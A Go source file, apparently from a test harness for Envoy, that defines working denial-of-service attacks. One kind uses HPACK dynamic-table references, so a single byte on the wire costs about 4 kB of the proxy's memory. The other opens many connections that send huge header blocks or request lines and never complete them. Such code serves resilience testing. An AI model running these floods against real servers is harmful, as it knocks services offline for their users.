// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"

	"golang.org/x/net/http2/hpack"
)

// headerAttacks fill Envoy with header fields.
func headerAttacks() []attack {
	return []attack{
		{
			Name: "1 hpack", What: "1 HTTP/2 connection, 200 requests of 2,000 references to a header field of 4 kB",
			port: httpDeaf, Short: true, run: references(1, 200, 2_000),
		},
		{
			Name: "1 hpack-within", What: "40 HTTP/2 connections, 200 requests each of 50 references to a header field of 4 kB",
			port: httpDeaf, run: references(40, 200, 50),
		},
		{
			Name: "1 hpack-tiny", What: "10 HTTP/2 connections, 100 requests each of 10,000 references to a tiny header field",
			port: httpDeaf, run: tinyFields(10, 100, 10_000),
		},
		{
			Name: "3 headers", What: "150 HTTP/1 connections with 8 MiB of header fields each, without an end",
			port: httpDeaf, Short: true, run: longHeaders(150, 8<<20-64<<10),
		},
		{
			Name: "3 headers-within", What: "1,000 HTTP/1 connections with 200 KiB of header fields each, without an end",
			port: httpDeaf, run: longHeaders(1_000, 200<<10),
		},
		{
			Name: "3 headers-detect", What: "150 connections to a port whose protocol is detected, with 8 MiB of header fields each",
			port: detectDeaf, run: longHeaders(150, 8<<20-64<<10),
		},
		{
			Name: "3 request-line", What: "500 HTTP/1 connections with a request line of 1 MiB, without an end",
			port: httpDeaf, run: longLine(500, 1<<20),
		},
	}
}

// references makes requests whose header is mostly references to one large field in
// the table of HPACK: each is a byte on the wire and 4 kB in memory.
func references(connections, streams, each int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		// A table of 4,096 bytes holds a field of 32 bytes less.
		large := hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_096-32-1-64)}
		return a.each(ctx, connections, func(ctx context.Context) error { return a.refer(ctx, large, streams, each) })
	}
}

// tinyFields is references to a field that is as small as can be: what counts is
// what a field costs beside its bytes.
func tinyFields(connections, streams, each int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		tiny := hpack.HeaderField{Name: "x", Value: "1"}
		return a.each(ctx, connections, func(ctx context.Context) error { return a.refer(ctx, tiny, streams, each) })
	}
}

func (a *attacker) refer(ctx context.Context, to hpack.HeaderField, streams, each int) error {
	h, err := a.dialH2(ctx)
	if err != nil {
		return err
	}
	// The first request puts the field into the table, where it stays the newest.
	fields, err := h.fields(to)
	if err != nil {
		return err
	}
	if _, err := h.request(fields, false); err != nil {
		return err
	}
	// All other fields of a request are in the static table, or in the other one
	// with the newest.
	const newest = 0x80 | 62
	again, err := h.fields()
	if err != nil {
		return err
	}
	again = append(again, bytes.Repeat([]byte{newest}, each)...)
	for range streams {
		if _, err := h.request(again, false); err != nil {
			return err
		}
	}
	return h.hold(ctx)
}

// longHeaders sends a request's header without its end.
func longHeaders(connections, size int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		field := fmt.Sprintf("x-%04d: %s\r\n", 0, strings.Repeat("v", 8_000))
		return a.each(ctx, connections, func(ctx context.Context) error {
			return a.unended(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", a.target()), field, size)
		})
	}
}

// longLine sends a request line without its end.
func longLine(connections, size int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			return a.unended(ctx, "GET /", strings.Repeat("p", 8_000), size)
		})
	}
}

// unended writes a start, and as many parts as make up the size, and waits.
func (a *attacker) unended(ctx context.Context, start, part string, size int) error {
	c, err := a.dial(ctx)
	if err != nil {
		return err
	}
	a.requests.Add(1)
	if _, err := c.Write([]byte(start)); err != nil {
		return err
	}
	for n := 0; n < size; n += len(part) {
		if _, err := c.Write([]byte(part)); err != nil {
			return err
		}
	}
	return hold(ctx, c)
}
